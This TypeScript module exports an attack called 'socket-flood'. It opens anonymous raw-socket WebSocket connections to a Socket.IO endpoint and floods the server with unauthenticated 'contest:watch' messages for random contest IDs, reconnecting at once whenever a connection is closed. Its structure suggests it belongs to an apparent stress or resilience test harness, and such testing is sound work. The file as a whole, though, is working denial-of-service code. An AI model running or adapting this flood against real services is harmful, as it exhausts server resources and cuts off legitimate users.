import { randomBytes, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** What an attack is given: where the API answers, and when to stop. */
interface Target {
  /** `http://host:port` */
  baseUrl: string;
  signal: AbortSignal;
}

/** As many at once as one program opens without an effort. */
const SOCKETS = 4;
const MESSAGES_PER_WRITE = 200;
/** Before a refused connection is tried again. */
const RETRY_MS = 50;

/** One masked text frame; the mask of zeros leaves the text as it is. */
function frame(text: string): Buffer {
  return Buffer.concat([Buffer.from([0x81, 0x80 | text.length]), Buffer.alloc(4), Buffer.from(text)]);
}

function watches(): Buffer {
  return Buffer.concat(
    Array.from({ length: MESSAGES_PER_WRITE }, () =>
      frame(`42["contest:watch",{"contestId":"${randomUUID()}"}]`),
    ),
  );
}

async function open({ hostname, port, host }: URL): Promise<Socket> {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => socket.destroy());
  await once(socket, 'connect');
  socket.write(
    `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  );
  await once(socket, 'data');
  socket.resume();
  socket.write(frame('40'));
  return socket;
}

/** Anonymous sockets that watch random contests without a pause, and come back at once when they are closed. */
async function run({ baseUrl, signal }: Target): Promise<{ messages: number; connections: number }> {
  const url = new URL(baseUrl);
  const sent = { messages: 0, connections: 0 };
  const flood = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = await open(url).catch(() => null);
      if (!socket) {
        await sleep(RETRY_MS);
        continue;
      }
      sent.connections++;
      while (!signal.aborted && socket.writable && !socket.readableEnded) {
        sent.messages += MESSAGES_PER_WRITE;
        // A server that no longer reads closes in the end: both events are awaited.
        if (!socket.write(watches())) {
          await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => undefined);
        } else {
          await new Promise((resolve) => setImmediate(resolve));
        }
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: SOCKETS }, flood));
  return sent;
}

export default { name: 'socket-flood', run };
